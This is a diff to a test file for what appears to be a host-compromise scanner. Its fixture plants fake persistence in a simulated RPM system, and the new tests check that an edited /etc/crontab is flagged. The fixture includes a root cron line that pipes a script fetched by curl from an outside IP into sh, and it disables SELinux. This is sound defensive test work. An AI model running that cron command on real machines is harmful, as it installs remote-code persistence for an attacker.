@@ -48,6 +48,8 @@ function compromise(root: FakeRoot): void {
     })
     .write('/var/spool/cron/root', '*/10 * * * * curl -fsSL http://185.222.58.10/ldr.sh | sh\n', { mode: 0o600, mtime: HOURS_AGO(5) })
     .write('/etc/selinux/config', 'SELINUX=disabled\nSELINUXTYPE=targeted\n', { mtime: HOURS_AGO(5) });
+  // cronie's %config /etc/crontab with one line appended: differs from the digest rpm recorded.
+  fs.appendFileSync(root.p('/etc/crontab'), '*/5 * * * * root /usr/local/bin/sync.sh\n');
 }
 
 describe('rpm-family trees (CentOS / RHEL / Rocky), offline', { skip: !haveRpmTools() && 'rpm/rpmbuild not installed' }, () => {
@@ -79,6 +81,12 @@ describe('rpm-family trees (CentOS / RHEL / Rocky), offline', { skip: !haveRpmTo
     assert.equal(facts.packages?.manager, 'rpm');
     assert.equal(facts.packages?.format, 'rpm-sqlite');
     assert.ok(facts.packages.files.includes('/usr/bin/ps'));
+    assert.ok(facts.rpmConfigFiles?.['/etc/crontab'], 'cronie %config digest read');
+    assert.deepEqual(
+      result.findings.filter((f) => /edited since installation/.test(f.title)).map((f) => f.path),
+      [],
+      'packaged config files match their rpm digests',
+    );
     assert.equal(facts.packageIntegrity?.manager, 'rpm');
     assert.ok((facts.packageIntegrity?.checked ?? 0) >= 15, `verified ${facts.packageIntegrity?.checked} programs`);
     assert.deepEqual(
@@ -105,6 +113,9 @@ describe('rpm-family trees (CentOS / RHEL / Rocky), offline', { skip: !haveRpmTo
     const login = result.findings.find((f) => f.rule === 'logs/ssh-login-after-bruteforce');
     assert.equal(login?.severity, 'critical');
     assert.equal(login?.ip, ATTACKER);
+    const edited = result.findings.find((f) => f.rule === 'persistence/cron-unowned-file' && f.path === '/etc/crontab');
+    assert.match(edited?.title ?? '', /edited since installation/);
+    assert.match(edited?.detail ?? '', /checksum rpm recorded/);
     const se = result.findings.find((f) => f.rule === 'hooks/selinux-disabled');
     assert.equal(se?.severity, 'high');
     assert.match(se?.evidence.join('\n') ?? '', /config:1: SELINUX=disabled/);
